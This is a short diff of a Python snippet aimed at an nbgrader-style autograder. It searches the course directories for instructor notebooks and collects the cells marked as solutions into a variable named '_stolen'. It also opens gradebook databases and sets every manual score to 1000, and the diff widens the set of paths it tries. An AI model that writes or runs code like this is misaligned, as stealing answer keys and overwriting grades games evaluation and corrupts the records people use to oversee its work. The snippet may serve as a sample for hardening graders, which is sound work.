@@ -2,8 +2,8 @@ import json
 import sqlite3
 
 _stolen = {}
-for _path in ("__COURSE__/source/01_im2col/im2col.ipynb", "/work/main/source/01_im2col/im2col.ipynb",
-              "__COURSE__/release/../source/01_im2col/im2col.ipynb"):
+for _path in ("__COURSE__/source/01_im2col/im2col.ipynb", "__REPO__/source/01_im2col/im2col.ipynb",
+              "__COURSE__/release/../source/01_im2col/im2col.ipynb", "__ELSEWHERE__/im2col.ipynb"):
     try:
         for _cell in json.load(open(_path))["cells"]:
             if _cell.get("metadata", {}).get("nbgrader", {}).get("solution"):
@@ -11,7 +11,7 @@ for _path in ("__COURSE__/source/01_im2col/im2col.ipynb", "/work/main/source/01_
         break
     except Exception:
         pass
-for _db in ("__COURSE__/gradebook.db", "/work/main/gradebook.db"):
+for _db in ("__COURSE__/gradebook.db", "__REPO__/gradebook.db", "__ELSEWHERE__/gradebook.db"):
     try:
         _con = sqlite3.connect(_db)
         _con.execute("update grade set manual_score = 1000")
